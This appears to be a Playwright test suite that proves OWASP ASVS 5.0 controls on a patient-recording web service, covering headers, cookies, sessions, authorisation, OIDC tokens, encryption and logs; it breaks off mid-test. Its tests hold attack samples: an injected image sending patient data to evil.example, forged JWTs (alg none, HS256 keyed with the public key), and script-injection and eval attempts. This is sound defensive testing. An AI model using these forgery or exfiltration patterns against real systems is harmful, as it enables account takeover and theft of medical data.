import { createHmac, createPublicKey, generateKeyPairSync, sign, type JsonWebKeyInput } from 'node:crypto';
import { readdir } from 'node:fs/promises';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { ANA, createTestApp } from '../api/testapp.ts';
import { createCookieJar } from '../test/build/cookiejar.ts';
import { startFakeIssuer, type FakeAnswers, type FakeIssuer } from '../test/build/fakeissuer.ts';
import { signInAs } from '../test/build/signin.ts';
import { cookiesOfSignIn, startBehindHttps } from './asvs/behindhttps.ts';
import { databasesIn, readableIn } from './asvs/browserstorage.ts';
import { createFlipBench } from './asvs/flips.ts';
import { complete, phoneOf, plainRecording, presign, put } from './asvs/phone.ts';
import { recordMuch, sealsOf } from './asvs/seals.ts';
import { storeKeys, waitForArchive } from './harness/archive.ts';
import { expect, test } from './harness/fixtures.ts';
import { scanProfile } from './harness/profile.ts';
import { startTestServer, type TestServer } from './harness/server.ts';
import { askToSignOut, expectNobody } from './screens/account.ts';
import { appOn, signIn } from './screens/app.ts';

// What of the OWASP Application Security Verification Standard 5.0 is proven on the built service, each title with its number.
// Where a number asks for more than is done, the title says what is done; SECURITY.md lists the differences.

const PATHS = ['/', '/recordings', '/sw.js', '/manifest.webmanifest', '/favicon.svg', '/missing.js', '/api/health', '/api/session', '/api/elsewhere', '/flags.json', '/ingest/x', '/oidc/signin', '/oidc/callback', '/oidc/style.css', '/csp-reports'];

interface Answer {
  path: string;
  headers: Headers;
  isPage: boolean;
}

/** An answer to a GET of every kind of address, the page's assets among them. */
async function answers({ url }: TestServer, headers: Record<string, string> = {}): Promise<Answer[]> {
  const assets = (await readdir(join(import.meta.dirname, '..', 'dist', 'public', 'assets'))).map((name) => `/assets/${name}`);
  return Promise.all(
    [...PATHS, ...assets].map(async (path) => {
      const answer = await fetch(url + path, { headers, redirect: 'manual' });
      await answer.arrayBuffer();
      return { path, headers: answer.headers, isPage: (answer.headers.get('Content-Type') ?? '').startsWith('text/html') };
    }),
  );
}

/** The directives of an answer's policy. */
function policyOf({ headers }: Answer): Map<string, string> {
  const directives = (headers.get('Content-Security-Policy') ?? '').split(';').map((part) => part.trim());
  return new Map(directives.map((directive) => [directive.split(' ')[0]!, directive.split(' ').slice(1).join(' ')]));
}

test.describe('3.4 headers', () => {
  test('ASVS 3.4.1 [HDR3] every answer under HTTPS carries HSTS for two years with all subdomains, and none over plain HTTP does', async ({ server }) => {
    const https = await startBehindHttps();
    try {
      for (const { path, headers } of await answers(https)) expect([path, headers.get('Strict-Transport-Security')]).toEqual([path, 'max-age=63072000; includeSubDomains']);
    } finally {
      await https.dispose();
    }
    for (const { path, headers } of await answers(server)) expect([path, headers.has('Strict-Transport-Security')]).toEqual([path, false]);
  });

  test('ASVS 3.4.2 [HDR4] no answer lets another origin read it, whatever origin asks, preflights included', async ({ server }) => {
    const cors = (headers: Headers) => [...headers.keys()].filter((name) => name.startsWith('access-control-'));
    for (const origin of ['https://evil.example', 'null', server.url]) {
      for (const { path, headers } of await answers(server, { Origin: origin })) expect([path, cors(headers)]).toEqual([path, []]);
      for (const path of ['/api/uploads', '/api/session', '/ingest/x', '/flags.json']) {
        const preflight = { Origin: origin, 'Access-Control-Request-Method': 'POST', 'Access-Control-Request-Headers': 'x-holdfast' };
        const { status, headers } = await fetch(server.url + path, { method: 'OPTIONS', headers: preflight });
        expect([path, cors(headers)]).toEqual([path, []]);
        expect(status).toBeGreaterThanOrEqual(400);
      }
    }
  });

  test("ASVS 3.4.3 [HDR1, HDR2] every answer carries a policy with object-src 'none' and base-uri 'none' that allows our own origin alone", async ({ server }) => {
    for (const answer of await answers(server)) {
      const policy = policyOf(answer);
      const { path } = answer;
      expect([path, policy.get('default-src'), policy.get('object-src'), policy.get('base-uri')]).toEqual([path, "'none'", "'none'", "'none'"]);
      expect([path, [...policy.values()].join(' ')]).toEqual([path, expect.not.stringMatching(/unsafe|https?:|\*|data:/)]);
    }
  });

  test('ASVS 3.4.4 [HDR4] every answer is nosniff', async ({ server }) => {
    for (const { path, headers } of await answers(server)) expect([path, headers.get('X-Content-Type-Options')]).toEqual([path, 'nosniff']);
  });

  test('ASVS 3.4.5 [HDR4] no address of ours is told to anybody', async ({ server }) => {
    for (const { path, headers } of await answers(server)) expect([path, headers.get('Referrer-Policy')]).toEqual([path, 'no-referrer']);
  });

  test('ASVS 3.4.6 [HDR1] no answer may be framed', async ({ server }) => {
    for (const answer of await answers(server)) expect([answer.path, policyOf(answer).get('frame-ancestors')]).toEqual([answer.path, "'none'"]);
  });

  test('ASVS 3.4.8 [HDR4] every page is alone in its window: COOP same-origin', async ({ server }) => {
    const all = await answers(server);
    expect(all.filter(({ isPage }) => isPage).map(({ path }) => path)).toContain('/');
    for (const { path, headers } of all) expect([path, headers.get('Cross-Origin-Opener-Policy')]).toEqual([path, 'same-origin']);
  });

  test('ASVS 3.4.8 [HDR4] of what a device can do, Chromium leaves the page the microphone and the wake lock', async ({ server, device }) => {
    const page = await device.open(server.url);
    const allowed = await page.evaluate(() => (document as unknown as { featurePolicy: { allowedFeatures(): string[] } }).featurePolicy.allowedFeatures());
    expect(allowed).toEqual(expect.arrayContaining(['microphone', 'screen-wake-lock']));
    for (const feature of ['camera', 'geolocation', 'display-capture', 'usb', 'serial', 'hid', 'payment', 'midi', 'idle-detection', 'clipboard-read']) expect(allowed).not.toContain(feature);
    expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
  });
});

test.describe('3.4 what a policy refuses', () => {
  test.use({ mayViolate: true });

  test('ASVS 3.4.7 [HDR6] every policy reports violations, to our own origin, and what Chromium reports is in the log without its content', async ({ server, device }) => {
    for (const answer of await answers(server)) expect([answer.path, policyOf(answer).get('report-uri')]).toEqual([answer.path, '/csp-reports']);
    const page = await device.open(server.url);
    await page.evaluate(() => {
      const picture = document.createElement('img');
      picture.src = 'https://evil.example/steal?patient=Meier';
      document.body.append(picture);
    });
    await expect.poll(() => server.output()).toContain('"event":"csp_violation","directive":"img-src","blocked":"https"');
    expect(server.output()).not.toMatch(/evil\.example|Meier/);
  });

  test('ASVS 3.4.3 [HDR7] in Chromium no screen of the built app violates its policy, and what an attacker would try does', async ({ server, newDevice }) => {
    const device = await newDevice({
      seconds: 20,
      scripts: [
        () => {
          const seen: string[] = [];
          Object.assign(globalThis, { seenViolations: seen });
          addEventListener('securitypolicyviolation', ({ effectiveDirective }) => void seen.push(effectiveDirective));
        },
      ],
    });
    const complaints: string[] = [];
    device.context().on('console', (message) => {
      if (/Content.Security.Policy|Trusted|Permissions-Policy|Cross-Origin/i.test(message.text())) complaints.push(message.text());
    });
    const app = await signIn(await device.open(server.url), server.url, 'doctor@example.org');
    const seen = () => app.page.evaluate(() => (globalThis as unknown as { seenViolations: string[] }).seenViolations);
    await app.record();
    await app.waitForSaved(2_000);
    await app.pause();
    await app.resume();
    await app.waitForSaved(3_000);
    await app.stop();
    await app.items();
    for (const path of ['/', '/recordings', '/elsewhere']) {
      await app.page.goto(server.url + path);
      expect(await seen()).toEqual([]);
    }
    // From the worker, which reports to the log alone.
    expect(await app.page.evaluate(() => navigator.serviceWorker.ready.then(({ active }) => active?.state))).toBe('activated');
    expect(server.output()).not.toContain('csp_violation');
    expect(complaints).toEqual([]);

    const policies = await app.page.evaluate(async () => {
      const tries: Record<string, () => unknown> = {
        html: () => void (document.body.innerHTML = '<p>'),
        script: () => Object.assign(document.createElement('script'), { src: '/sw.js' }),
        handler: () => document.body.setAttribute('onclick', 'alert(1)'),
        policy: () => (globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }).trustedTypes.createPolicy('evil', {}),
        samePolicy: () => (globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }).trustedTypes.createPolicy('holdfast-worker', {}),
        worker: () => new Worker('/sw.js'),
      };
      const refused: string[] = [];
      for (const [name, attempt] of Object.entries(tries)) {
        try {
          attempt();
        } catch (error) {
          refused.push(`${name}: ${(error as Error).name}`);
        }
      }
      // As a timer, because what the test evaluates itself is let through.
      const evaluated = await new Promise<string>((resolve) => {
        setTimeout(() => {
          try {
            resolve(String(((() => 0).constructor as (text: string) => () => number)('return 1')()));
          } catch (error) {
            resolve((error as Error).name);
          }
        });
      });
      const otherWorker = await navigator.serviceWorker.register('/assets/other.js').then(
        () => 'registered',
        (error: Error) => error.name,
      );
      return { refused, evaluated, otherWorker };
    });
    expect(policies).toEqual({
      refused: ['html: TypeError', 'script: TypeError', 'handler: TypeError', 'policy: TypeError', 'samePolicy: TypeError', 'worker: TypeError'],
      evaluated: 'EvalError',
      otherWorker: 'TypeError',
    });
    expect(new Set(await seen())).toEqual(new Set(['require-trusted-types-for', 'trusted-types']));
  });
});

test.describe('3.3 cookies', () => {
  test('ASVS 3.3.1 every cookie that signing in sets under HTTPS is Secure and named __Host- or __Secure-', async () => {
    const https = await startBehindHttps();
    try {
      const cookies = await cookiesOfSignIn(https);
      expect(cookies.length).toBeGreaterThanOrEqual(3); // The way to the issuer, the session, the upload grant.
      for (const cookie of cookies) expect(cookie).toMatch(/^__(?:Host|Secure)-[^;]+;.*; Secure$/);
      for (const cookie of cookies.filter((each) => each.startsWith('__Host-'))) expect(cookie).toMatch(/; Path=\/;/);
    } finally {
      await https.dispose();
    }
  });

  test('ASVS 3.3.3 the cookie of the session is __Host-; those that are held to a path instead belong to this host alone', async () => {
    const https = await startBehindHttps();
    try {
      const cookies = (await cookiesOfSignIn(https)).filter((cookie) => !cookie.includes('Max-Age=0'));
      const names = cookies.map((cookie) => `${cookie.split('=')[0]!.replace(/^(__Secure-oidc)-.*/, '$1')} ${/; (Path=[^;]+)/.exec(cookie)?.[1]}`);
      expect(names.toSorted()).toEqual(['__Host-sid Path=/', '__Secure-grant Path=/api/uploads', '__Secure-oidc Path=/oidc']);
      for (const cookie of cookies) expect(cookie).not.toMatch(/; Domain=/i);
    } finally {
      await https.dispose();
    }
  });

  test('ASVS 3.3.4 no script sees a cookie, and its value comes in Set-Cookie alone', async ({ server, device }) => {
    const bodies: Promise<string>[] = [];
    device.context().on('response', (response) => bodies.push(response.text().catch(() => '')));
    const { page } = await signIn(await device.open(server.url), server.url, 'doctor@example.org');
    await page.reload();
    expect(await page.evaluate(() => document.cookie)).toBe('');
    const cookies = await device.context().cookies([server.url, `${server.url}/api/uploads`]);
    expect(cookies.map(({ name, httpOnly, sameSite }) => [name, httpOnly, sameSite]).sort()).toEqual([
      ['grant', true, 'Strict'],
      ['sid', true, 'Strict'],
    ]);
    const all = (await Promise.all(bodies)).join('\n');
    expect(all).toContain('doctor@example.org');
    for (const { value } of cookies) expect(all).not.toContain(value);
  });
});

test.describe('3.5 requests of other origins', () => {
  test('ASVS 3.5.1 a changing request without the header of the app is refused, and so is one that a browser says is not ours', async ({ server }) => {
    const phone = await phoneOf(server.url, 'demo-admin');
    const recording = plainRecording(phone.session.ownerId);
    const changing: [string, unknown][] = [
      ['/api/uploads', { ownerId: phone.session.ownerId, recordingId: recording.recordingId, segments: [recording.segment] }],
      [`/api/uploads/${recording.recordingId}/complete`, recording.manifest],
      [`/api/people/${phone.session.ownerId}`, { disabled: true }],
      ['/api/signout', {}],
    ];
    const refusal = async (path: string, body: unknown, headers: Record<string, string | undefined>) => {
      const answer = await phone.ask('POST', path, body, headers);
      return [path, answer.status, ((await answer.json()) as { code: string }).code];
    };
    for (const [path, body] of changing) {
      expect(await refusal(path, body, { 'X-Holdfast': undefined })).toEqual([path, 403, 'header_missing']);
      expect(await refusal(path, body, { 'X-Holdfast': undefined, 'Content-Type': 'text/plain' })).toEqual([path, 403, 'header_missing']);
      for (const site of ['cross-site', 'same-site', 'none']) expect(await refusal(path, body, { 'Sec-Fetch-Site': site })).toEqual([path, 403, 'cross_origin']);
      expect(await refusal(path, body, { 'Sec-Fetch-Site': undefined, Origin: 'https://evil.example' })).toEqual([path, 403, 'cross_origin']);
    }
    expect((await phone.ask('GET', '/api/session')).status).toBe(200);
    expect(await storeKeys(server.dataDir, 'ingest/')).toEqual([]);
  });
});

test.describe('5.2 uploads', () => {
  test('ASVS 5.2.4 what is larger or longer than agreed is refused, at every step, and nothing of it is stored', async ({ server }) => {
    const phone = await phoneOf(server.url, 'demo-doctor');
    const { ownerId } = phone.session;
    const recording = plainRecording(ownerId);
    const code = async (answer: Promise<Response>) => ((await (await answer).json()) as { code: string }).code;
    const { segment, recordingId } = recording;
    const asked = (segments: unknown[]) => phone.ask('POST', '/api/uploads', { ownerId, recordingId, segments });
    expect(await code(asked([{ ...segment, bytes: 8 * 1024 * 1024 + 1 }]))).toBe('segment_too_large');
    expect(await code(asked(Array.from({ length: 51 }, (_, seq) => ({ ...segment, seq }))))).toBe('bad_request');
    expect(await code(phone.ask('POST', '/api/uploads', `{"x":"${'x'.repeat(40_000)}"}`))).toBe('body_too_large');
    // More than was signed for, and other bytes of the same number.
    expect(await put(server.url, phone, recording, Buffer.alloc(segment.bytes + 1))).toBeGreaterThanOrEqual(400);
    expect(await put(server.url, phone, recording, Buffer.alloc(segment.bytes))).toBeGreaterThanOrEqual(400);
    expect(await storeKeys(server.dataDir, 'ingest/')).toEqual([]);
    const [take] = recording.manifest.takes;
    expect(await code(complete(phone, recording, { takes: [{ ...take!, durationMs: 12 * 60 * 60 * 1000 + 1 }] }))).toBe('recording_too_long');
    expect(await code(phone.ask('POST', `/api/uploads/${recordingId}/complete`, `{"x":"${'x'.repeat(4 * 1024 * 1024)}"}`))).toBe('body_too_large');
    // The control: as agreed it is taken.
    expect(await put(server.url, phone, recording)).toBe(200);
    expect((await complete(phone, recording)).status).toBe(200);
  });
});

test.describe('7.3 and 7.4 sessions', () => {
  const MINUTE_MS = 60_000;

  test('ASVS 7.3.1 a session that is not used for 30 minutes is over, one that is used goes on', async () => {
    const { clock, ask, signIn: open } = createTestApp();
    const { session } = await open(ANA);
    const status = async () => (await ask(session, 'GET', '/api/session')).status;
    for (let minutes = 0; minutes < 120; minutes += 20) {
      clock.nowMs += 20 * MINUTE_MS;
      expect(await status()).toBe(200);
    }
    clock.nowMs += 30 * MINUTE_MS;
    expect(await status()).toBe(401);
    // It does not come back when the clock does.
    clock.nowMs -= 30 * MINUTE_MS;
    expect(await status()).toBe(401);
  });

  test('ASVS 7.3.2 a session is over after 12 hours however much it is used, an upload grant after 30 days', async () => {
    const { clock, ask, signIn: open } = createTestApp();
    const { session, grant } = await open(ANA);
    const startMs = clock.nowMs;
    const status = async (cookie: string, path: string) => (await ask(cookie, 'GET', path)).status;
    for (; clock.nowMs < startMs + 12 * 60 * MINUTE_MS; clock.nowMs += 10 * MINUTE_MS) expect(await status(session, '/api/session')).toBe(200);
    expect(await status(session, '/api/session')).toBe(401);
    // What outlives it sends, and does nothing else.
    expect(await status(grant, '/api/session')).toBe(401);
    const recording = plainRecording(ANA.ownerId);
    const sends = async () => (await ask(grant, 'POST', '/api/uploads', { ownerId: ANA.ownerId, recordingId: recording.recordingId, segments: [recording.segment] })).status;
    expect(await sends()).toBe(200);
    clock.nowMs = startMs + 30 * 24 * 60 * MINUTE_MS - 1;
    expect(await sends()).toBe(200);
    clock.nowMs += 1;
    expect(await sends()).toBe(401);
  });

  test('ASVS 7.4.1 after signing out, and after signing in anew, the cookies of before are nobody\'s', async ({ server }) => {
    const phone = await phoneOf(server.url, 'demo-doctor');
    const before = { session: phone.jar.cookiesFor(server.url), uploads: phone.jar.cookiesFor(`${server.url}/api/uploads`) };
    const statuses = () =>
      Promise.all(
        ['/api/session', '/api/keys', '/api/uploads'].map(async (path) => (await fetch(server.url + path, { headers: { Cookie: path === '/api/uploads' ? before.uploads : before.session } })).status),
      );
    expect(await statuses()).toEqual([200, 200, 200]);
    expect((await phone.ask('POST', '/api/signout', {})).status).toBeLessThan(300);
    expect(phone.jar.cookiesFor(`${server.url}/api/uploads`)).toBe('');
    expect(await statuses()).toEqual([401, 401, 200]);
    const owners = async () => (await fetch(`${server.url}/api/uploads`, { headers: { Cookie: before.uploads } })).json();
    expect(await owners()).toMatchObject({ owners: [] });

    const again = await phoneOf(server.url, 'demo-doctor');
    Object.assign(before, { session: again.jar.cookiesFor(server.url), uploads: again.jar.cookiesFor(`${server.url}/api/uploads`) });
    expect(await owners()).toMatchObject({ owners: [again.session.ownerId] });
    await signInAs(server.url, 'demo-nurse', again.jar);
    expect(await statuses()).toEqual([401, 401, 200]);
    expect(await owners()).toMatchObject({ owners: [] });
  });

  test('ASVS 7.4.2 whom an admin shuts out is out at once, session and upload grant, and cannot come back in', async ({ server }) => {
    const [admin, nurse] = [await phoneOf(server.url, 'demo-admin'), await phoneOf(server.url, 'demo-nurse')];
    // Another device of theirs, which asks for nothing while they are shut out: only what is remembered of that can end what it has.
    const idle = await phoneOf(server.url, 'demo-nurse');
    const recording = plainRecording(nurse.session.ownerId);
    for (const phone of [nurse, idle]) expect((await presign(phone, recording)).status).toBe(200);
    expect((await admin.ask('POST', `/api/people/${nurse.session.ownerId}`, { disabled: true })).status).toBeLessThan(300);
    expect((await nurse.ask('GET', '/api/session')).status).toBe(401);
    expect((await presign(nurse, recording)).status).toBe(401);
    await expect(phoneOf(server.url, 'demo-nurse')).rejects.toThrow(/403/);
    // Let in again, what was open before stays dead.
    expect((await admin.ask('POST', `/api/people/${nurse.session.ownerId}`, { disabled: false })).status).toBeLessThan(300);
    for (const phone of [nurse, idle]) expect([(await phone.ask('GET', '/api/session')).status, (await presign(phone, recording)).status]).toEqual([401, 401]);
    expect((await phoneOf(server.url, 'demo-nurse')).session.ownerId).toBe(nurse.session.ownerId);
  });
});

test.describe('8 authorisation', () => {
  test('ASVS 8.2.2 nobody can presign, complete or read the recording of somebody else, an admin neither', async ({ server }) => {
    const owner = await phoneOf(server.url, 'demo-nurse');
    const recording = plainRecording(owner.session.ownerId);
    expect(await put(server.url, owner, recording)).toBe(200);
    const keys = await storeKeys(server.dataDir, 'ingest/');
    for (const subject of ['demo-doctor', 'demo-admin'] as const) {
      const other = await phoneOf(server.url, subject);
      const state = `/api/uploads/${recording.recordingId}?ownerId=`;
      const refused = [await presign(other, recording), await complete(other, recording), await other.ask('GET', state + owner.session.ownerId)];
      for (const answer of refused) expect([answer.status, await answer.json()]).toEqual([409, expect.objectContaining({ code: 'owner_mismatch' })]);
      // Under the own name there is nothing to see of it, and nothing to complete.
      expect(await (await other.ask('GET', state + other.session.ownerId)).json()).toMatchObject({ segments: [], receipt: null, archived: null });
      const claimed = await complete(other, recording, { ownerId: other.session.ownerId });
      expect([claimed.status, await claimed.json()]).toEqual([409, expect.objectContaining({ code: 'segments_missing' })]);
    }
    expect(await storeKeys(server.dataDir, 'ingest/')).toEqual(keys);
    expect((await complete(owner, recording)).status).toBe(200);
    for (const path of [...keys.map((key) => `/${key}`), '/archive/', '/state/sessions/']) expect((await fetch(server.url + path)).headers.get('Content-Type')).not.toBe('application/octet-stream');
  });

  test('ASVS 8.3.1 an owner that the client names counts only with a cookie that backs it', async ({ server }) => {
    const [ana, ben] = [await phoneOf(server.url, 'demo-doctor'), await phoneOf(server.url, 'demo-nurse')];
    const bens = plainRecording(ben.session.ownerId);
    const named = { ownerId: ben.session.ownerId, recordingId: bens.recordingId, segments: [bens.segment] };
    const nobody = (headers: Record<string, string> = {}) => fetch(`${server.url}/api/uploads`, { method: 'POST', headers: { 'X-Holdfast': '1', 'Content-Type': 'application/json', ...headers }, body: JSON.stringify(named) });
    const made = Buffer.alloc(32, 7).toString('base64url');
    for (const headers of [{}, { Cookie: `sid=${made}; grant=${made}` }, { Cookie: `sid=${ben.session.ownerId}` }, { Authorization: `Bearer ${ben.session.ownerId}` }, { 'X-Owner-Id': ben.session.ownerId }]) {
      expect((await nobody(headers)).status).toBe(401);
    }
    expect((await presign(ana, bens)).status).toBe(409);
    // The grant of one is not the session of another: each sends for its own owner.
    const [sid] = ana.jar.cookiesFor(server.url).split('; ');
    const grant = ben.jar.cookiesFor(`${server.url}/api/uploads`).split('; ').find((pair) => pair.startsWith('grant='));
    expect((await nobody({ Cookie: `${sid}; ${grant}` })).status).toBe(200);
    expect((await fetch(`${server.url}/api/keys`, { headers: { Cookie: grant! } })).status).toBe(401);
    expect((await ana.ask('GET', '/api/people')).status).toBe(403);
    expect(await storeKeys(server.dataDir, 'ingest/')).toEqual([]);
  });
});

/** The built service with an issuer that does what the test tells it. */
async function withFakeIssuer(work: (server: TestServer, issuer: FakeIssuer) => Promise<void>): Promise<void> {
  const issuer = await startFakeIssuer();
  const { settings } = issuer;
  // Signed in with an issuer of its own a service begins with the offline recorder off, and the page with what its build says until it knows.
  const env = { FLAGS_SEED: 'demo', OIDC_ISSUER: settings.issuer, OIDC_CLIENT_ID: settings.clientId, OIDC_CLIENT_SECRET: settings.clientSecret };
  issuer.answers.claims = { email: 'dr.meier@example.org', email_verified: true, roles: ['user'] };
  const server = await startTestServer({ env });
  try {
    await work(server, issuer);
  } finally {
    await server.dispose();
    await issuer.down();
  }
}

/** Signs in with the fake issuer. Resolves to the last answer's status, and whether a session is there afterwards. */
async function tried({ url }: TestServer): Promise<[status: number, session: number]> {
  const jar = createCookieJar();
  const { status } = await jar.fetch(`${url}/oidc/signin?returnTo=/`);
  return [status, (await jar.fetch(`${url}/api/session`)).status];
}

const base64url = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');

test.describe('9 and 10 tokens', () => {
  test('ASVS 9.1.2 tokens without an algorithm, signed with the public key as a secret, or by somebody else open no session', async () => {
    const hmac = (claims: unknown, secret: string) => {
      const signed = `${base64url({ alg: 'HS256', kid: 'k1' })}.${base64url(claims)}`;
      return `${signed}.${createHmac('sha256', secret).update(signed).digest('base64url')}`;
    };
    const spki = (jwk: object) => createPublicKey({ key: jwk, format: 'jwk' } as JsonWebKeyInput).export({ type: 'spki', format: 'pem' }).toString();
    const forgeries: Record<string, NonNullable<FakeAnswers['idToken']>> = {
      none: (claims) => `${base64url({ alg: 'none' })}.${base64url(claims)}.`,
      'None, with a signature': async (claims, { sign }) => `${base64url({ alg: 'None' })}.${base64url(claims)}.${(await sign(claims)).split('.')[2]}`,
      'HS256 with the public key as PEM': (claims, { publicJwk }) => hmac(claims, spki(publicJwk)),
      'HS256 with the public key as JWK': (claims, { publicJwk }) => hmac(claims, JSON.stringify(publicJwk)),
      'RS256 of another key': (claims) => {
        const signed = `${base64url({ alg: 'RS256', kid: 'k1' })}.${base64url(claims)}`;
        return `${signed}.${sign('sha256', Buffer.from(signed), stranger).toString('base64url')}`;
      },
      'RS256 of a key in its own header': (claims) => {
        const signed = `${base64url({ alg: 'RS256', jwk: createPublicKey(stranger).export({ format: 'jwk' }) })}.${base64url(claims)}`;
        return `${signed}.${sign('sha256', Buffer.from(signed), stranger).toString('base64url')}`;
      },
    };
    const { privateKey: stranger } = generateKeyPairSync('rsa', { modulusLength: 2048 });
    await withFakeIssuer(async (server, { answers }) => {
      expect(await tried(server)).toEqual([200, 200]); // The control.
      for (const [name, idToken] of Object.entries(forgeries)) {
        answers.idToken = idToken;
        expect([name, await tried(server)]).toEqual([name, [502, 401]]);
      }
    });
  });

  test('ASVS 10.1.1 no token, code or secret of signing in is in anything that a script can read', async ({ device }) => {
    await withFakeIssuer(async (server, issuer) => {
      const tokens: string[] = [];
      issuer.answers.accessToken = 'an-access-token-of-the-issuer';
      issuer.answers.idToken = async (claims, { sign: signed }) => {
        tokens.push(await signed(claims));
        return tokens.at(-1)!;
      };
      // The page between, which a browser leaves before what it holds can be asked for: without one it stays to be read.
      const between = await createCookieJar().fetch(`${server.url}/oidc/signin?returnTo=/`);
      const page = await device.open(server.url);
      const codes: string[] = [];
      const bodies: Promise<string>[] = [];
      device.context().on('request', (request) => {
        const { searchParams, origin } = new URL(request.url());
        if (origin === server.url) codes.push(...['code', 'state'].flatMap((name) => searchParams.get(name) ?? []));
      });
      device.context().on('response', (response) => {
        if (response.url().startsWith(server.url)) bodies.push(response.text().catch(() => ''));
      });
      await page.goto(`${server.url}/oidc/signin?returnTo=/`);
      await appOn(page);
      const readable = [await readableIn(page), ...(await Promise.all(bodies)), JSON.stringify([...between.headers]), await between.text()].join('\n');
      // The control: it is this sign-in that is looked at, and what a script may know it finds.
      expect(readable).toContain('dr.meier@example.org');
      expect(readable).toContain('http-equiv="refresh"');
      expect([tokens.length, codes.length]).toEqual([2, 2]);
      for (const secret of [...tokens, ...tokens.flatMap((token) => token.split('.')), ...codes, issuer.answers.accessToken, issuer.settings.clientSecret]) expect(readable).not.toContain(secret);
      expect(readable).not.toMatch(/eyJ[\w-]{10,}|access_token|id_token|refresh_token/);
    });
  });

  test('ASVS 10.5.1 an ID token with another nonce, without one, or of an earlier sign-in opens no session', async () => {
    await withFakeIssuer(async (server, { answers }) => {
      const { claims } = answers;
      let earlier = '';
      answers.idToken = async (said, { sign: signed }) => (earlier = await signed(said));
      expect(await tried(server)).toEqual([200, 200]); // The control.
      // From here on it is the token of a sign-in that went well.
      answers.idToken = undefined;
      for (const nonce of ['another', '', undefined]) {
        answers.claims = { ...claims, nonce };
        expect([nonce, await tried(server)]).toEqual([nonce, [502, 401]]);
      }
      answers.claims = claims;
      answers.idToken = () => earlier;
      expect(await tried(server)).toEqual([502, 401]);
      answers.idToken = undefined;
      expect(await tried(server)).toEqual([200, 200]);
    });
  });
});

test.describe('11.3 encryption', () => {
  test('ASVS 11.3.3 any flipped bit of a received recording is refused at compose, even where every hash was made to match', async () => {
    const bench = await createFlipBench();
    try {
      expect(await bench.composed()).toBeUndefined(); // The control.
      const codes = new Map<string, Set<string | undefined>>();
      const note = (region: string, code: string | undefined) => codes.set(region, (codes.get(region) ?? new Set()).add(code));
      for (const { region, bit } of bench.places) {
        await bench.flipSegment(bit, true);
        note(region, await bench.composed());
      }
      for (const { bit } of bench.places.filter((_, i) => i % 10 === 0)) {
        await bench.flipSegment(bit, false);
        note('hash', await bench.composed());
      }
      for (let bit = 0; bit < bench.manifestBits; bit += 11) {
        await bench.flipManifest(bit);
        note('manifest', await bench.composed());
      }
      expect(Object.fromEntries([...codes].map(([region, found]) => [region, [...found].toSorted()]))).toEqual({
        magic: ['segment_corrupt'],
        length: ['segment_corrupt'],
        take: ['chunks_incomplete'],
        chunk: ['chunks_incomplete'],
        ciphertext: ['seal_broken'],
        tag: ['seal_broken'],
        hash: ['segment_corrupt'],
        manifest: ['manifest_unreadable'],
      });
      expect(await bench.composed()).toBeUndefined();
    } finally {
      await bench.dispose();
    }
  });

  test('ASVS 11.3.4 no IV comes twice under a key over 10,000 chunks, takes, edits and failed writes', async () => {
    const seals = await sealsOf(() => recordMuch({ takes: 4, chunks: 2_500 }));
    const keys = new Map<CryptoKey, number>();
    for (const { key } of seals) keys.set(key, (keys.get(key) ?? 0) + 1);
    expect(seals.length).toBeGreaterThanOrEqual(10_000);
    // A key of its own for every take and every version of a text.
    expect([...keys.values()].toSorted((a, b) => a - b)).toEqual([...Array.from({ length: 20 }, () => 1), 2_500, 2_500, 2_500, 2_500]);
    const numbers = new Map([...keys.keys()].map((key, i) => [key, i]));
    expect(new Set(seals.map(({ key, iv }) => `${numbers.get(key)} ${iv}`)).size).toBe(seals.length);
    expect(new Set(seals.map(({ sealed }) => sealed)).size).toBe(seals.length);
  });
});

/** What somebody writes about a patient, long enough to be found in any file. */
const TITLE = 'Meier, second visit, Influenza';

/** Writes a title for the recording that runs. */
async function writeTitle(page: Page): Promise<void> {
  await page.getByRole('button', { name: 'Private details' }).click();
  const title = page.getByRole('textbox', { name: 'Title' });
  await title.fill(TITLE);
  await title.blur();
  await expect(page.getByText('Saved, sealed')).toHaveCount(1);
  await page.keyboard.press('Escape');
}

/** Signs out through the screen, leaving what waits on the device. */
async function signOutOn(page: Page, user: string): Promise<void> {
  const dialog = await askToSignOut(page, user);
  await dialog.getByRole('button', { name: /^(?:Keep sealed|Sign out)/ }).click();
  await expectNobody(page);
}

test.describe('14.3 what stays on the device', () => {
  test('ASVS 14.3.3 after signing out the browser stores no readable audio, no name, no e-mail and no key of this device', async ({ server, device }) => {
    const user = 'doctor@example.org';
    const app = await signIn(await device.open(server.url), server.url, user);
    await device.setOffline(true);
    await app.record();
    await writeTitle(app.page);
    await app.waitForSaved(3_000);
    await app.stop();
    // The control: what is looked for is there while somebody is signed in.
    expect(await readableIn(app.page)).toContain(user);
    await signOutOn(app.page, user);
    const databases = await databasesIn(app.page);
    expect((await readableIn(app.page)).match(/.{0,40}(?:doctor|example\.org|extractable|Meier|Influenza).{0,40}/i)).toBeNull();
    // The recording is there, and sealed: in no database is a sign of a container of sound.
    expect(databases.includes('wrappedKeys')).toBe(true);
    expect(['\u001aE\u00df\u00a3', 'webmB', 'OpusHead', 'OpusTags', 'ftyp', 'moof'].filter((sign) => databases.includes(sign))).toEqual([]);
    await device.close();
    const title = (['utf8', 'utf16le'] as const).map((encoding) => ({ what: `the title as ${encoding}`, bytes: Buffer.from(TITLE, encoding) }));
    expect(await scanProfile(device.profileDir, title)).toEqual([]);
  });
});

test.describe('16.2 logs', () => {
  test.use({ mayViolate: true });

  test('ASVS 16.2.5 no log holds an e-mail, a cookie, a code, a token, a signature or what somebody has typed', async ({ server, device }) => {
    const user = 'doctor@example.org';
    const secrets = new Set([user, 'nurse@example.org', 'Meier', 'Influenza']);
    device.context().on('request', (request) => {
      const { searchParams } = new URL(request.url());
      for (const name of ['code', 'state', 'nonce', 'code_challenge', 'X-Amz-Signature', 'X-Amz-Credential']) if (searchParams.has(name)) secrets.add(searchParams.get(name)!);
    });
    const page = await device.open(server.url);
    const cookies = async () => {
      for (const { value } of await device.context().cookies([server.url, `${server.url}/api/uploads`, `${server.url}/oidc`, `${server.url}/issuer`])) if (value.length > 8) secrets.add(value);
    };

    // Somebody who changes their mind, somebody with a link of last week, and then a whole journey.
